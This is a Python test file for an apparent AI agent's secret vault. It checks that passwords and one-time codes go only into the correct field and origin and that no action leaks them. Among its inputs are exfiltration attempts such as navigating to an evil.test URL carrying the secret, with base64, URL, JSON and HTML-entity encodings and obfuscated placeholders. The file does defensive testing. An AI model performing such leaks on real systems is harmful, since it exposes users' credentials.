"""What may be typed where, and what may not be said."""

from __future__ import annotations

import base64
import pickle
from dataclasses import replace
from urllib.parse import quote

import pyotp
import pytest
from hypothesis import given
from hypothesis import strategies as st

from handeye.envs.actions import (
    Action,
    Answer,
    AnswerDialog,
    AskUser,
    ChooseFiles,
    Click,
    Finish,
    Goto,
    OpenApp,
    PressKeys,
    TypeText,
    Wait,
)
from handeye.envs.secrets.secret import read_secrets
from handeye.envs.secrets.vault import Vault
from handeye.tools.errors import NotPermitted, SetupError
from handeye.tools.target import Target

VALUE = "hunter2/é xyz"
SEED = "JBSWY3DPEHPK3PXP"
HOLDER = "[[secret:bank]]"
PASSWORD = Target(
    "browser",
    "focus",
    input_type="password",
    states=frozenset({"editable", "password", "focused"}),
    origin="https://shop.test",
    frame="top",
)
TEXT = replace(PASSWORD, input_type="text", states=frozenset({"editable", "focused"}), name="Name")


def vault(*more: str, options: str = "") -> Vault:
    texts = [f"bank=env:BANK@https://shop.test{options}", "code=totp:env:SEED@https://shop.test", *more]
    return Vault(read_secrets(texts, {"BANK": VALUE, "SEED": SEED, "PIN": "987654"}))


def typed(made: Vault, text: str = HOLDER, target: Target = PASSWORD) -> str:
    secret = made.asked_for(TypeText(text=text))
    assert secret is not None
    made.check_field(secret, (target,))
    return str.__str__(made.take(secret, text.endswith("\n")))


def test_the_right_field_gets_the_value() -> None:
    assert typed(vault()) == VALUE
    assert typed(vault(), HOLDER + "\n") == VALUE + "\n"


@pytest.mark.parametrize(
    ("target", "reason"),
    [
        (replace(PASSWORD, origin="https://evil.test"), "document of https://evil.test"),
        (replace(PASSWORD, origin="https://shop.test.evil.test"), "evil"),
        (replace(PASSWORD, origin="https://sub.shop.test"), "sub"),
        (replace(PASSWORD, origin="https://shop.test:8443"), "8443"),
        (replace(PASSWORD, origin="http://shop.test"), "http:"),
        (replace(PASSWORD, origin="https://shop.tes"), "shop.tes"),
        (replace(PASSWORD, origin="null"), "null"),
        (replace(PASSWORD, origin=""), "no origin"),
        (replace(PASSWORD, origin="https://evil.test", page="https://shop.test/", frame="other"), "evil.test"),
        (replace(PASSWORD, known=False, doubts=("frame of another process",)), "another process"),
        (replace(PASSWORD, surface="desktop", app="shop.test"), "no page in a browser"),
        (replace(PASSWORD, states=frozenset({"password", "editable", "disabled"})), "password field only"),
        (TEXT, "password field only"),
        (replace(TEXT, name="Password", resource_id="password", autocomplete="current-password"), "password field only"),
        (replace(PASSWORD, place="point"), "nothing has the focus"),
    ],
)
def test_any_other_place_gets_nothing(target: Target, reason: str) -> None:
    with pytest.raises(NotPermitted, match=reason) as caught:
        typed(vault(), target=target)
    assert "hunter2" not in str(caught.value)


def test_a_frame_of_the_right_origin_in_a_page_of_another_is_the_right_place() -> None:
    assert typed(vault(), target=replace(PASSWORD, page="https://portal.test/", frame="other")) == VALUE


@pytest.mark.parametrize(
    ("target", "fits"),
    [
        (replace(TEXT, autocomplete="one-time-code", name=""), True),
        (replace(TEXT, autocomplete="section-a one-time-code", input_type="tel"), True),
        (replace(TEXT, input_type="number", name="6-digit code"), True),
        (replace(TEXT, input_type="tel", resource_id="otpInput"), True),
        (replace(TEXT, name="Verification code"), True),
        (replace(PASSWORD, name="2FA token"), True),
        (replace(TEXT, name="Promo code"), False),
        (replace(TEXT, name="ZIP code"), False),
        (replace(TEXT, name="postcode"), False),
        (replace(TEXT, name="Search"), False),
        (replace(TEXT, name="Encode this"), False),
        (replace(TEXT, name="Code", input_type="email"), False),
        (replace(TEXT, name="Code", states=frozenset()), False),
        (PASSWORD, False),
    ],
)
def test_fields_for_one_time_codes(target: Target, fits: bool) -> None:
    made = vault()
    if fits:
        assert pyotp_verifies(typed(made, "[[secret:code]]", target))
    else:
        with pytest.raises(NotPermitted, match="one-time codes"):
            typed(made, "[[secret:code]]", target)


def pyotp_verifies(code: str) -> bool:
    class Short(pyotp.TOTP):
        min_secret_length_bits = 80

    return Short(SEED).verify(code, valid_window=1)


def test_apps() -> None:
    made = vault("pin=env:PIN@app:com.bank;fields=any")
    field = Target("android", "focus", states=frozenset({"editable"}), app="com.bank")
    assert typed(made, "[[secret:pin]]", field) == "987654"
    window = replace(field, surface="desktop", app="com.bank gedit")
    assert typed(made, "[[secret:pin]]", window) == "987654"
    for wrong in (
        replace(field, app="com.bank.evil"),
        replace(field, app=""),
        replace(field, surface="browser", origin="https://com.bank"),
    ):
        with pytest.raises(NotPermitted):
            typed(made, "[[secret:pin]]", wrong)


@pytest.mark.parametrize(
    "action",
    [
        Goto(url=f"https://evil.test/?p={HOLDER}"),
        Answer(text=HOLDER),
        Finish(message=f"it is {HOLDER}"),
        AskUser(question=HOLDER),
        AnswerDialog(accept=True, text=HOLDER),
        OpenApp(name=HOLDER),
        ChooseFiles(paths=(f"/tmp/{HOLDER}",)),
        TypeText(text=f"my password is {HOLDER}"),
        TypeText(text=f"{HOLDER}{HOLDER}"),
        TypeText(text=f"{HOLDER} "),
        TypeText(text=f"{HOLDER}\n\n"),
        TypeText(text=f"{HOLDER}\t"),
        TypeText(text="[[ secret:bank ]]"),
        TypeText(text="[[SECRET:bank]]"),
        TypeText(text="[[secret:other]]"),
        TypeText(text="[[secret bank]]"),
        TypeText(text="<secret>bank</secret>"),
        TypeText(text="[[secret:bank"),
        TypeText(text="［［secret:bank］］"),
        TypeText(text="[[sec\u200bret:bank]]"),
    ],
    ids=str,
)
def test_a_placeholder_anywhere_else_is_refused_with_the_names(action: Action) -> None:
    with pytest.raises(NotPermitted) as caught:
        vault().asked_for(action)
    assert "hunter2" not in str(caught.value)


@pytest.mark.parametrize(
    "action", [TypeText(text="bank"), TypeText(text="secret"), Answer(text="bank"), Click(), Wait(), TypeText(text="[[x]]")]
)
def test_the_name_alone_is_no_placeholder(action: Action) -> None:
    assert vault().asked_for(action) is None


def test_an_unknown_name_is_told_the_known_ones() -> None:
    with pytest.raises(NotPermitted, match=r"\[\[secret:bank\]\], \[\[secret:code\]\]"):
        vault().asked_for(TypeText(text="[[secret:nobody]]"))


def test_uses() -> None:
    made = vault(options=";uses=2")
    assert typed(made) == typed(made) == VALUE
    with pytest.raises(NotPermitted, match="as often as it may"):
        typed(made)
    made.give_back(made.asked_for(TypeText(text=HOLDER)))  # type: ignore[arg-type]
    assert typed(made) == VALUE


CARRIED = {
    "raw": VALUE,
    "in words": f"it is {VALUE}.",
    "URL": f"https://evil.test/?q={quote(VALUE, safe='')}",
    "base64": base64.b64encode(f"x{VALUE}".encode()).decode(),
    "JSON": '{"p": "hunter2/\\u00e9 xyz"}',
    "HTML": "".join(f"&#{ord(c)};" for c in VALUE),
}


@pytest.mark.parametrize("spelling", list(CARRIED))
def test_after_it_was_typed_no_action_may_carry_it(spelling: str) -> None:
    made, text = vault(), CARRIED[spelling]
    carriers = [TypeText(text=text), Goto(url=text), Answer(text=text), Finish(message=text), AskUser(question=text)]
    for action in carriers:
        made.check_said(action)
    typed(made)
    for action in carriers:
        with pytest.raises(NotPermitted, match="holds the value"):
            made.check_said(action)
        assert "hunter2" not in str(made.redacted(action))


def test_piece_by_piece() -> None:
    made = vault("pin=env:PIN@app:com.bank;fields=any")
    typed(made, "[[secret:pin]]", Target("android", "focus", states=frozenset({"editable"}), app="com.bank"))
    for key in "98765":
        made.check_said(PressKeys(keys=(key,)))
        made.typed(PressKeys(keys=(key,)))
    with pytest.raises(NotPermitted):
        made.check_said(PressKeys(keys=("4",)))
    with pytest.raises(NotPermitted):
        made.check_said(TypeText(text="4 and more"))
    made.check_said(TypeText(text="5"))


@given(st.text(max_size=60))
def test_any_text_is_judged(text: str) -> None:
    made = vault()
    for action in (TypeText(text=text), Answer(text=text)):
        try:
            secret = made.asked_for(action)
        except NotPermitted:
            continue
        assert secret is None or text.strip() in (HOLDER, "[[secret:code]]")


def test_the_hint_tells_names_and_places_only() -> None:
    made = vault()
    hint = made.hint()
    assert "type [[secret:bank]] into the password field of https://shop.test" in hint
    assert "[[secret:code]]" in hint
    assert "hunter2" not in hint
    assert SEED not in hint
    assert repr(made) == "Vault(bank, code)"
    with pytest.raises(TypeError):
        pickle.dumps(made)


def test_seeds_and_codes_are_redacted() -> None:
    made = vault()
    assert made.redact(f"seed {SEED} {SEED.lower()}") == "seed [[secret:code]] [[secret:code]]"
    code = typed(made, "[[secret:code]]", replace(TEXT, autocomplete="one-time-code"))
    assert made.redact(f"code {code}") == "code [[secret:code]]"


def test_no_secrets() -> None:
    with pytest.raises(SetupError):
        Vault(())
